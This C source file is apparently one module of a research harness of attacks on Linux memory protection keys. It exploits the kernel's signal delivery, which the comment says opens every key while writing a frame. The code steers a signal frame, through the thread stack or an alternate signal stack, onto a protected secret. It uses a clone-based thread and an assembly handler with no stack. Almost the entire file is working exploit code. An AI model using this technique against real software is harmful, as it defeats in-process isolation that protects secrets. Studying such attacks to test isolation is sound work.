/* B10: the kernel writes a signal frame wherever the stack pointer or the alternate
 * stack says; since Linux 6.12 it opens every key for that. The signal goes to a
 * thread of the attack's own, whose handler needs no stack and ends it.
 *
 * Source: Linux 6.12, sig_prepare_pkru; [sigaltstack(2)].
 */
#include <linux/futex.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "attack.h"

#define STACK_BYTES (256 * 1024)
#define ALTERNATE_BYTES 65536

extern void end_in_handler(void);
uintptr_t frame_low; /* where the last frame began */
/* No sigreturn, no stack: notes where the frame is and ends the thread. */
__asm__(".text\n"
        "end_in_handler:\n"
        "movq %rsp, frame_low(%rip)\n"
        "movl $" "60" ", %eax\n" /* SYS_exit, checked below */
        "xorl %edi, %edi\n"
        "syscall\n"
        "hlt\n");
_Static_assert(SYS_exit == 60, "the handler names it in assembler");

static int by_alternate_stack;
static uintptr_t top; /* of the stack that the frame goes to */
static volatile int running;
static unsigned char stack[STACK_BYTES] __attribute__((aligned(64)));

static void signal_here(void) {
    long process = getpid(), thread = syscall(SYS_gettid);
    register uintptr_t there __asm__("r12") = top;
    register long number __asm__("rax") = SYS_tgkill;
    __asm__ volatile("movq %%r12, %%rsp\n\tsyscall\n\thlt"
                     : "+r"(number) : "r"(there), "D"(process), "S"(thread), "d"(SIGUSR1)
                     : "rcx", "r11", "memory");
    __builtin_unreachable();
}

static int body(void *unused) {
    (void)unused;
    if (!by_alternate_stack) signal_here();
    stack_t alternate = {.ss_sp = (void *)(top - ALTERNATE_BYTES), .ss_size = ALTERNATE_BYTES};
    if (syscall(SYS_sigaltstack, &alternate, NULL)) attack_refused("sigaltstack", errno);
    else syscall(SYS_tgkill, getpid(), syscall(SYS_gettid), SIGUSR1);
    syscall(SYS_exit, 0);
    return 0;
}

/* One thread, one signal, one frame. */
static void frame_below(uintptr_t address) {
    top = address;
    running = 1;
    void *own = stack + sizeof stack / 2;
    TRY("clone", clone(body, own, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM |
                       CLONE_CHILD_CLEARTID, NULL, NULL, NULL, (void *)&running));
    while (running) syscall(SYS_futex, &running, FUTEX_WAIT, 1, NULL, NULL, 0);
}

/* First on a stack of our own, to learn how long a frame is; then so that it begins
 * where the secret does. */
static void write_frame(void) {
    struct sigaction action = {.sa_handler = (void (*)(int))end_in_handler, .sa_flags = SA_ONSTACK};
    uintptr_t own = (uintptr_t)(stack + sizeof stack);
    TRY("rt_sigaction", sigaction(SIGUSR1, &action, NULL));
    frame_below(own);
    if (!frame_low) return;
    uintptr_t length = own - frame_low;
    /* Frames begin 8 below a multiple of 16. */
    frame_below((((uintptr_t)target.secret + length) & ~(uintptr_t)63) + 64);
}

static void alternate_stack(void) {
    by_alternate_stack = 1;
    write_frame();
}

const struct attack attacks[] = {
    {.variant = "sigaltstack", .attack = alternate_stack},
    {.variant = "rsp", .attack = write_frame},
    {0},
};
